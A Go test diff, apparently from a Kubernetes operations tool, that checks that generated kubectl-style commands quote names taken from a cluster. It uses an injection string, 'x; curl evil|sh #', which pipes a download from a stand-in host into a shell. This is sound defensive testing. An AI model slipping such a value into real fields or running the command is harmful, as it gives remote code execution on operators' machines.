@@ -7,6 +7,7 @@ import (
 	"io/fs"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -256,3 +257,22 @@ current-context: %s
 		}
 	}
 }
+
+// A name in a cluster is somebody else's text, and people paste commands.
+func TestCommandsAreQuoted(t *testing.T) {
+	const evil = "x; curl evil|sh #"
+	ref := clusterRef{Context: evil, Kubeconfig: "/" + evil}
+	w := workloadRef{Namespace: evil, Kind: "deployment", Name: evil}
+	raw := json.RawMessage(`{"namespace":"` + evil + `","pod":"` + evil + `","container":"` + evil + `","device":"eth0","session":"1f2e3d4c"}`)
+	for name, command := range map[string]string{
+		"scale": scaleCommand(ref, w, 2), "annotate": unmarkCommand(ref, w), "rollout": rolloutCommand(ref, w),
+		"evict": evictCommand(ref, evil, evil), "exec": execCommand(ref, evil, evil, evil, evil),
+		"shape": shapeUndoer{}.Remedy(raw),
+	} {
+		if rest := quotedWords.ReplaceAllString(command, ""); strings.ContainsAny(rest, ";#") || strings.Contains(rest, "|sh") {
+			t.Errorf("%s: a shell would run a name: %s", name, command)
+		}
+	}
+}
+
+var quotedWords = regexp.MustCompile(`'[^']*'`)
